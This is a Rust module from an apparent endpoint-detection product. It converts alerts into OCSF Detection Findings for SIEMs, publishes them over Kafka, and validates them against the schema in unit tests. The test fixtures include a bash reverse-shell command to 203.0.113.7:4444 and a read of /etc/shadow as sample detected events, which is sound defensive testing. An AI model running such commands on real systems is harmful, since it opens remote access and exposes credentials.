//! OCSF for SIEMs: every alert (warn or alert verdict) as an OCSF 1.8.0
//! Detection Finding (class 2004) in JSON on the findings topic
//! (`outlier.findings.v1`, keyed like the event), so Splunk, Elastic,
//! Sentinel or any OCSF consumer reads Outlier's findings in the schema its
//! tools know. The evidence event is an OCSF `evidences` object (the
//! process, its parent, and the connection's destination or the file);
//! the ATT&CK tactic and technique are `finding_info.attacks`; what OCSF has
//! no attribute for (workload, anomaly score, behaviour key, signature,
//! contributions) is under `unmapped.outlier`.
//!
//! The indexer reads the alerts topic in a consumer group of its own
//! (`{group_id}-ocsf`) and stores each batch's offsets once its findings
//! are acknowledged by Kafka (at-least-once; `finding_info.uid` is the
//! event id, the de-duplication key).

use std::time::Duration;

use outlier_common::kafka::{self, Assignment, KafkaConfig};
use outlier_common::retry::{Backoff, RetryPolicy};
use outlier_common::telemetry::{Check, Health};
use outlier_proto::{ScoredEvent, Verdict, event::Detail};
use prost::Message as _;
use rdkafka::Message as _;
use rdkafka::producer::{FutureProducer, FutureRecord};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::metrics;

/// The OCSF version the findings follow (the vendored schema's).
pub const OCSF_VERSION: &str = "1.8.0";

fn ms(ns: u64) -> u64 {
    ns / 1_000_000
}

/// ATT&CK's display name of a tactic short name ("command-and-control" →
/// "Command and Control").
fn tactic_name(slug: &str) -> String {
    slug.split('-')
        .map(|w| match w {
            "and" => "and".to_string(),
            w => {
                let mut c = w.chars();
                c.next()
                    .map(|f| f.to_uppercase().collect::<String>() + c.as_str())
                    .unwrap_or_default()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The OCSF Detection Finding of a flagged scored event.
pub fn finding_of(s: &ScoredEvent) -> Value {
    let e = s.event.clone().unwrap_or_default();
    let alert = s.verdict() == Verdict::Alert;
    // Severity: High for alert, Medium for warn.
    let (severity_id, severity) = if alert { (4, "High") } else { (3, "Medium") };
    let program = e.program_name().to_string();
    let mut process = json!({
        "pid": e.pid,
        "name": program,
        "file": { "name": program, "path": e.exe, "type_id": 1, "type": "Regular File" },
        "user": { "uid": e.uid.to_string() },
        "parent_process": { "pid": e.ppid, "name": e.parent_comm },
    });
    let mut evidence = json!({});
    let what = match &e.detail {
        Some(Detail::Exec(x)) => {
            let cmd = x.argv.join(" ");
            process["cmd_line"] = json!(cmd);
            if !x.cwd.is_empty() {
                process["working_directory"] = json!(x.cwd);
            }
            format!("ran `{cmd}`")
        }
        Some(Detail::Connect(c)) => {
            evidence["dst_endpoint"] = json!({ "ip": c.remote_ip, "port": c.remote_port });
            format!("{program} connected to {}:{}", c.remote_ip, c.remote_port)
        }
        Some(Detail::Open(o)) => {
            let name = o.path.rsplit('/').next().unwrap_or_default().to_string();
            evidence["file"] =
                json!({ "name": name, "path": o.path, "type_id": 0, "type": "Unknown" });
            format!("{program} opened {}", o.path)
        }
        None => String::new(),
    };
    evidence["process"] = process;
    let mut attacks = Vec::new();
    if !s.tactic.is_empty() || !s.technique.is_empty() {
        let mut a = json!({});
        if !s.tactic.is_empty() {
            a["tactic"] = json!({
                "name": tactic_name(&s.tactic),
                "uid": outlier_classifier::explain::tactic_id(&s.tactic),
            });
        }
        if !s.technique.is_empty() {
            match s.technique.split_once('.') {
                Some((parent, _)) => {
                    a["technique"] = json!({ "uid": parent });
                    a["sub_technique"] = json!({ "uid": s.technique });
                }
                None => a["technique"] = json!({ "uid": s.technique }),
            }
        }
        attacks.push(a);
    }
    let title = if s.signature_id.is_empty() {
        format!("Outlier {}: {what}", s.verdict().label())
    } else {
        format!("Outlier fleet signature match: {what}")
    };
    let mut info = json!({
        "uid": e.event_id,
        "title": title,
        "desc": s.explanation,
        "types": [if s.threat_category.is_empty() { "anomaly" } else { s.threat_category.as_str() }],
        "analytic": {
            "name": if s.signature_id.is_empty() { "outlier-baseline-and-classifier" } else { "outlier-fleet-signature" },
            "type_id": if s.signature_id.is_empty() { 5 } else { 1 },
            "type": if s.signature_id.is_empty() { "Behavioral" } else { "Rule" },
        },
        "first_seen_time": ms(e.ts_ns),
        "last_seen_time": ms(e.ts_ns),
    });
    if !attacks.is_empty() {
        info["attacks"] = json!(attacks);
    }
    json!({
        "class_uid": 2004,
        "class_name": "Detection Finding",
        "category_uid": 2,
        "category_name": "Findings",
        "activity_id": 1,
        "activity_name": "Create",
        "type_uid": 200401,
        "type_name": "Detection Finding: Create",
        "time": ms(s.scored_at_ns.max(e.ts_ns)),
        "severity_id": severity_id,
        "severity": severity,
        "status_id": 1,
        "status": "New",
        "is_alert": true,
        "confidence_score": (f64::from(s.confidence) * 100.0).round().clamp(0.0, 100.0) as i64,
        "message": title,
        "metadata": {
            "version": OCSF_VERSION,
            "uid": e.event_id,
            "tenant_uid": e.org,
            "original_time": e.ts_ns.to_string(),
            "log_name": "outlier.alerts.v1",
            "product": {
                "name": "Outlier",
                "vendor_name": "Outlier",
                "version": s.scorer_version,
            },
            "profiles": ["host"],
        },
        "device": {
            "hostname": e.host,
            "name": e.host,
            "type_id": 1,
            "type": "Server",
        },
        "finding_info": info,
        "evidences": [evidence],
        "unmapped": {
            "outlier": {
                "org": e.org,
                "workload": e.workload,
                "kind": e.kind_name(),
                "verdict": s.verdict().label(),
                "anomaly_score": s.anomaly_score,
                "nearest_distance": s.nearest_distance,
                "behaviour_key": s.behaviour_key.to_string(),
                "signature_id": s.signature_id,
                "source": e.source,
                "cgroup": e.cgroup,
                "contributions": s.contributions.iter().map(|c| json!({
                    "feature": c.feature, "value": c.value, "shap": c.shap, "sentence": c.sentence,
                })).collect::<Vec<_>>(),
            }
        },
    })
}

/// Publishes an OCSF finding for every alert until `shutdown` fires.
pub async fn run(
    kafka_cfg: KafkaConfig,
    group: String,
    health: Health,
    shutdown: CancellationToken,
) {
    let source = kafka_cfg.topics.alerts.clone();
    let topic = kafka_cfg.topics.findings.clone();
    let (consumer, producer): (_, FutureProducer) = match kafka::at_least_once_clients(
        &kafka_cfg,
        "outlier-indexer-ocsf",
        &group,
        &[&source],
        Assignment::Sticky,
        &health,
        &shutdown,
    )
    .await
    {
        Ok(Some(c)) => c,
        Ok(None) => return,
        Err(e) => {
            tracing::error!(topic = source, error = %e, "consumer not created");
            health.set(Check::Kafka, false, format!("{source}: {e}"));
            return;
        }
    };
    tracing::info!(from = source, to = topic, group, "publishing OCSF findings");
    while let Some(batch) = kafka::next_batch(
        &consumer,
        kafka::BatchBound::SIDE,
        Duration::from_millis(100),
        &shutdown,
    )
    .await
    {
        let offsets = kafka::batch_offsets(&batch);
        let mut out: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
        for m in &batch {
            match m.payload().map(ScoredEvent::decode) {
                Some(Ok(s)) if matches!(s.verdict(), Verdict::Warn | Verdict::Alert) => {
                    let body = serde_json::to_vec(&finding_of(&s)).unwrap_or_default();
                    out.push((m.key().unwrap_or_default().to_vec(), body));
                }
                Some(Ok(_)) => {}
                _ => metrics::FINDINGS.inc(metrics::FindingOutcome::Invalid),
            }
        }
        let mut backoff = Backoff::new(RetryPolicy {
            max_delay: Duration::from_secs(30),
            ..RetryPolicy::default()
        });
        loop {
            let sends = out.iter().map(|(k, v)| {
                producer.send(
                    FutureRecord::to(&topic).key(k).payload(v),
                    Duration::from_secs(30),
                )
            });
            let results = futures::future::join_all(sends).await;
            let failed = results.iter().filter(|r| r.is_err()).count();
            if failed == 0 {
                metrics::FINDINGS.inc_by(metrics::FindingOutcome::Published, out.len() as u64);
                break;
            }
            tracing::warn!(
                topic,
                failed,
                "findings not acknowledged; retrying the batch"
            );
            if !backoff.wait(&shutdown).await {
                kafka::commit_stored(&consumer);
                return;
            }
        }
        kafka::store_offsets(&consumer, &offsets);
    }
    kafka::commit_stored(&consumer);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ocsf_schema::{Schema, vendored_dir};
    use outlier_proto::{Connect, Contribution, Event, Exec, Open};

    fn scored(detail: Detail, verdict: Verdict, tactic: &str, technique: &str) -> ScoredEvent {
        ScoredEvent {
            event: Some(Event {
                event_id: "ev-1".into(),
                org: "acme".into(),
                workload: "web".into(),
                host: "web-1".into(),
                ts_ns: 1_800_000_000_123_456_789,
                pid: 2001,
                ppid: 2000,
                uid: 33,
                comm: "sh".into(),
                parent_comm: "php-fpm".into(),
                exe: "/usr/bin/dash".into(),
                cgroup: "/system.slice/php-fpm.service".into(),
                source: "ebpf".into(),
                detail: Some(detail),
                ..Event::default()
            }),
            anomaly_score: 0.93,
            verdict: verdict as i32,
            tactic: tactic.into(),
            technique: technique.into(),
            threat_category: "reverse_shell".into(),
            confidence: 0.87,
            explanation: "shell spawned by php-fpm".into(),
            contributions: vec![Contribution {
                feature: "parent_is_web_server".into(),
                value: 1.0,
                shap: 2.5,
                sentence: "shell spawned by web server php-fpm".into(),
            }],
            scored_at_ns: 1_800_000_000_200_000_000,
            scorer_version: "0.1.0".into(),
            behaviour_key: 42,
            ..ScoredEvent::default()
        }
    }

    fn cases() -> Vec<ScoredEvent> {
        let exec = Detail::Exec(Exec {
            argv: vec![
                "sh".into(),
                "-c".into(),
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1".into(),
            ],
            cwd: "/var/www".into(),
            ..Exec::default()
        });
        let connect = Detail::Connect(Connect {
            remote_ip: "203.0.113.7".into(),
            remote_port: 4444,
            ..Connect::default()
        });
        let open = Detail::Open(Open {
            path: "/etc/shadow".into(),
            ..Open::default()
        });
        let mut signature = scored(exec.clone(), Verdict::Alert, "", "");
        signature.signature_id = "sig-1".into();
        vec![
            scored(exec, Verdict::Alert, "execution", "T1059.004"),
            scored(connect, Verdict::Warn, "command-and-control", "T1071"),
            scored(open, Verdict::Alert, "credential-access", "T1003.008"),
            signature,
        ]
    }

    #[test]
    fn every_kind_of_finding_validates_against_the_ocsf_schema() {
        let schema = Schema::load(&vendored_dir()).expect("vendored OCSF schema");
        assert_eq!(schema.version, OCSF_VERSION);
        for s in cases() {
            let f = finding_of(&s);
            let errors = schema.validate("detection_finding", &f);
            assert!(errors.is_empty(), "{errors:#?}\n{f:#}");
        }
        let f = finding_of(&cases()[1]);
        assert_eq!(f["evidences"][0]["dst_endpoint"]["port"], 4444);
        assert_eq!(f["finding_info"]["attacks"][0]["tactic"]["uid"], "TA0011");
        assert_eq!(
            f["finding_info"]["attacks"][0]["tactic"]["name"],
            "Command and Control"
        );
        assert_eq!(f["severity_id"], 3);
        let f = finding_of(&cases()[2]);
        assert_eq!(
            f["finding_info"]["attacks"][0]["sub_technique"]["uid"],
            "T1003.008"
        );
        assert_eq!(f["evidences"][0]["file"]["path"], "/etc/shadow");
    }

    #[test]
    fn the_validator_refuses_what_ocsf_does_not_define() {
        let schema = Schema::load(&vendored_dir()).unwrap();
        let good = finding_of(&cases()[0]);
        let broken = |edit: &dyn Fn(&mut Value)| {
            let mut f = good.clone();
            edit(&mut f);
            schema.validate("detection_finding", &f)
        };
        let e = broken(&|f| {
            f.as_object_mut().unwrap().remove("finding_info");
        });
        assert!(e.iter().any(|x| x == "$.finding_info: required"), "{e:?}");
        let e = broken(&|f| f["severity_id"] = json!(7));
        assert!(
            e.iter()
                .any(|x| x.starts_with("$.severity_id: 7 is not one of")),
            "{e:?}"
        );
        let e = broken(&|f| f["workload"] = json!("web"));
        assert!(
            e.iter()
                .any(|x| x.starts_with("$.workload: not an attribute")),
            "{e:?}"
        );
        let e = broken(&|f| f["evidences"][0]["process"]["pid"] = json!("2001"));
        assert!(
            e.iter()
                .any(|x| x.starts_with("$.evidences[0].process.pid:")),
            "{e:?}"
        );
        let e = broken(&|f| f["finding_info"]["attacks"] = json!({"tactic": {"uid": "TA0002"}}));
        assert!(
            e.iter().any(|x| x.contains("attacks: an array expected")),
            "{e:?}"
        );
        let e = broken(&|f| f["evidences"] = json!([{}]));
        assert!(e.iter().any(|x| x.contains("at least one of")), "{e:?}");
    }

    #[test]
    fn tactic_names_read_as_attack_spells_them() {
        assert_eq!(tactic_name("command-and-control"), "Command and Control");
        assert_eq!(tactic_name("privilege-escalation"), "Privilege Escalation");
    }
}
